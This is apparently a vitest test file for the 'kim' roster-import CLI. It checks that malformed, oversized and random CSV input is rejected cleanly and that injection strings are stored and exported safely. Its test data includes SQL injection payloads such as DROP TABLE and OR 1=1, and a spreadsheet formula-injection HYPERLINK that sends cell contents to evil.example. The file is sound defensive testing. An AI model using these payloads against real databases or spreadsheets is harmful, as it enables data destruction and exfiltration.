import path from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { kim, tempDir } from '../helpers/cli.js';
import { HEADER, officer, writeRaw, writeRoster } from '../helpers/roster.js';
import { mutatedSample, SAMPLE_BYTES } from './mutate.js';
import { databaseBytes, STACK_LINE } from './processes.js';

const MIB = 1 << 20;
/** The UTF-8 sample without its BOM, as lines: the material for hand-made hostile files. */
const LINES = SAMPLE_BYTES[1]!.toString('utf8').replace(/^\uFEFF/, '').split(/\r?\n/).filter(Boolean);
const [HEAD, ...BODY] = LINES as [string, ...string[]];
const ADDRESS = /"Jl\. [^"]*"/;

/**
 * Imports the bytes through the real bin/kim.js and checks the contract for any input: exit 0, 1
 * or 2; a sentence, never a stack trace or an internal error; one JSON document when something
 * was imported; and on exit 2 (or a dry run) the database exactly as it was, byte for byte.
 */
function importHostile(dir: string, bytes: Uint8Array | string, options: string[] = []): { code: number; json: any; stderr: string } {
  const db = path.join(dir, 'kim.sqlite');
  const before = databaseBytes(db);
  const file = writeRaw(dir, 'hostile.csv', Buffer.from(bytes));
  const r = kim(['import', file, '--format', 'json', ...options], { cwd: dir });
  const seen = { code: r.code, stack: STACK_LINE.test(r.stderr), internal: /Internal error/.test(r.stderr) };
  expect(seen, r.stderr).toMatchObject({ stack: false, internal: false });
  expect([0, 1, 2], r.stderr).toContain(r.code);
  let json: any = null;
  if (r.stdout !== '' || r.code !== 2) json = JSON.parse(r.stdout);
  if (r.code === 2) {
    expect(r.stderr).toMatch(/^Error: \S.*\n$/m);
    expect(databaseBytes(db), 'the database changed on exit 2').toBe(before);
  } else {
    expect(json.rejected.length > 0).toBe(r.code === 1);
    for (const rejected of json.rejected) expect(rejected.reason).toMatch(/\S/);
  }
  if (options.includes('--dry-run')) expect(databaseBytes(db)).toBe(before);
  return { code: r.code, json, stderr: r.stderr };
}

describe('hostile rosters through bin/kim.js', () => {
  const dir = tempDir('kim-hostile-');
  beforeAll(() => {
    expect(kim(['init', '--regency', '35.74'], { cwd: dir }).code).toBe(0);
    expect(kim(['import', writeRaw(dir, 'sample.csv', SAMPLE_BYTES[0]!)], { cwd: dir }).code).toBe(0);
  });

  /** Name, the file, the exit code, and what the clerk is told (on stderr, or in the JSON's reasons). */
  const cases: [string, () => string | Buffer, number, RegExp?][] = [
    ['a 2 MiB quoted address', () => [HEAD, BODY[0]!.replace(ADDRESS, `"${'x'.repeat(2 * MIB)}"`), ...BODY.slice(1)].join('\n'), 0],
    ['a 3 MiB unquoted cell', () => [HEAD, BODY[0]!.replace(ADDRESS, 'y'.repeat(3 * MIB)), ...BODY.slice(1)].join('\n'), 0],
    ['a 9 MiB line', () => [HEAD, BODY[0], 'z'.repeat(9 * MIB), ...BODY.slice(1)].join('\n'), 1, /too long/],
    ['a quoted field running over 700,000 lines', () => [HEAD, BODY[0]!.replace(ADDRESS, `"${'ab\n'.repeat(700_000)}"`), ...BODY.slice(1)].join('\n'), 2, /More than 10000 rows were rejected/],
    ['nine 6 MiB title rows above the header', () => [...Array.from({ length: 9 }, () => 'JUDUL '.repeat(MIB)), HEAD, ...BODY].join('\n'), 0],
    // The header names a million columns the rows do not have: every row is short of cells.
    ['a header with a million columns', () => [HEAD + ',x'.repeat(1_000_000), ...BODY].join('\n'), 1, /13 cells where the header has 1000013/],
    ['300,000 rows with too few cells', () => [HEAD, ...BODY, ...Array.from({ length: 300_000 }, (_, i) => `KIM ${i},Kedopok`)].join('\n'), 2, /More than 10000 rows were rejected/],
    ['NUL bytes near the start', () => [HEAD, ...BODY].join('\n').replace('Bagus', 'Ba\0gus'), 2, /not a CSV text file/],
    ['NUL bytes past the first 4 KiB', () => [HEAD, ...BODY, ...BODY, ...BODY, ...BODY.map((l) => l.replace('Sulastri', 'Sula\0stri'))].join('\n'), 0],
    ['mixed line endings', () => [HEAD, ...BODY].map((l, i) => l + ['\n', '\r\n', '\r'][i % 3]).join(''), 0],
    ['the header alone', () => HEAD + '\n', 2, /a header row, but no officer row under it/],
    ['a header without the officer name', () => [HEAD.replace('Nama Pengurus', 'Keterangan'), ...BODY].join('\n'), 2, /no column for: officer_name/],
    ['the header below ten title rows', () => [...Array.from({ length: 10 }, (_, i) => `Daftar ${i}`), HEAD, ...BODY].join('\n'), 2, /No roster header row found/],
    ['a header cell with a line break', () => [HEAD.replace('Nama KIM', '"Nama\nKIM"'), ...BODY].join('\n'), 0],
    ['a formula for a heading', () => [HEAD.replace('Nama KIM', '=Nama KIM'), ...BODY].join('\n'), 0],
    ['an .xlsx renamed', () => Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200, 7)]), 2, /Excel workbook/],
    ['a BOM and nothing else', () => '\uFEFF', 2, /empty/],
    ['only blank lines', () => '\n\r\n \n\t\n', 2],
  ];

  it.each(cases)('%s', (_name, make, expected, told) => {
    const r = importHostile(dir, make());
    expect(r.code, r.stderr).toBe(expected);
    if (told) expect(r.stderr + JSON.stringify(r.json?.rejected ?? [])).toMatch(told);
  });

  it('a header pasted in again (two files put together) is not taken for a KIM', () => {
    const r = importHostile(dir, [HEAD, ...BODY, '\uFEFF' + HEAD, ...BODY].join('\r\n'));
    expect(r.code).toBe(0);
    expect(r.json.officers.created + r.json.officers.updated + r.json.officers.unchanged).toBe(BODY.length);
    const list = kim(['list', '--format', 'json'], { cwd: dir });
    expect(JSON.parse(list.stdout).map((c: { name: string }) => c.name)).not.toContain('Nama KIM');
  });

  it('damaged sample rosters and random bytes, with random options', () => {
    const options = fc.constantFrom([], ['--strict'], ['--dry-run'], ['--encoding', 'utf8'], ['--encoding', 'windows-1252'], ['--encoding', 'utf16le'], ['--delimiter', ';'], ['--replace-rosters']);
    const bytes = fc.oneof({ weight: 3, arbitrary: mutatedSample }, { weight: 1, arbitrary: fc.uint8Array({ maxLength: 2000 }).map((a) => Buffer.from(a)) });
    fc.assert(
      fc.property(bytes, options, (data, extra) => {
        importHostile(dir, data, extra);
      }),
      { numRuns: 28 },
    );
    expect(kim(['check'], { cwd: dir }).code).toBe(0);
  }, 120_000);
});

describe('SQL-looking and formula-looking cells', () => {
  const TRICKS = [
    "'); DROP TABLE officers;--",
    "Robert'); DELETE FROM communities WHERE ('1'='1",
    '" OR 1=1 --',
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    '=1+1',
    '+6281234567890',
    '+62 812-3456-7890',
    '@SUM(A1:A9)',
    '-1+2',
    '%s%n${7*7}',
  ];
  const header = [...HEADER, 'No HP', 'Alamat'];
  const row = (n: number, trick: string, over: Record<string, string> = {}) => [
    ...officer(n, { 'Nama Pengurus': trick, Pekerjaan: trick, NIK: `357404121290${String(n).padStart(4, '0')}`, ...over }),
    trick,
    trick,
  ];

  it('are stored and exported as plain text in JSON, and neutralised in CSV', () => {
    const dir = tempDir('kim-tricks-');
    expect(kim(['init', '--regency', '35.74'], { cwd: dir }).code).toBe(0);
    const kimName = "KIM '); DROP TABLE communities;--";
    const rows = [header, ...TRICKS.map((t, i) => row(i + 1, t, { 'Nama KIM': kimName }))];
    const imported = kim(['import', writeRoster(dir, 'tricks.csv', rows), '--format', 'json'], { cwd: dir });
    expect(imported.code, imported.stderr).toBe(0);
    expect(JSON.parse(imported.stdout).officers.created).toBe(TRICKS.length);

    const officers = JSON.parse(kim(['export', 'officers', '--format', 'json'], { cwd: dir }).stdout) as Record<string, string>[];
    expect(officers.map((o) => [o.name, o.occupation, o.phone, o.address, o.community])).toEqual(TRICKS.map((t) => [t, t, t, t, kimName]));
    const communities = JSON.parse(kim(['export', 'communities', '--format', 'json'], { cwd: dir }).stdout) as Record<string, string>[];
    expect(communities.map((c) => c.name)).toEqual([kimName]);

    const csv = parse(kim(['export', 'officers', '--format', 'csv'], { cwd: dir }).stdout, { columns: true }) as Record<string, string>[];
    const shown = (t: string) => (/^[=+@]/.test(t) || (t.startsWith('-') && !/^-\d+$/.test(t)) ? `'${t}` : t);
    expect(csv.map((o) => [o.Name, o.Occupation, o.Phone])).toEqual(TRICKS.map((t) => [shown(t), shown(t), shown(t)]));
    expect(csv.filter((o) => /^[=+\-@]/.test(o.Name!))).toEqual([]);

    // The tables are all there, and a search for the text finds it as text.
    const list = kim(['list', '--search', "'); DROP", '--format', 'json'], { cwd: dir });
    expect(JSON.parse(list.stdout).map((c: { name: string }) => c.name)).toEqual([kimName]);
    expect(kim(['check'], { cwd: dir }).code).toBe(0);
  });
});
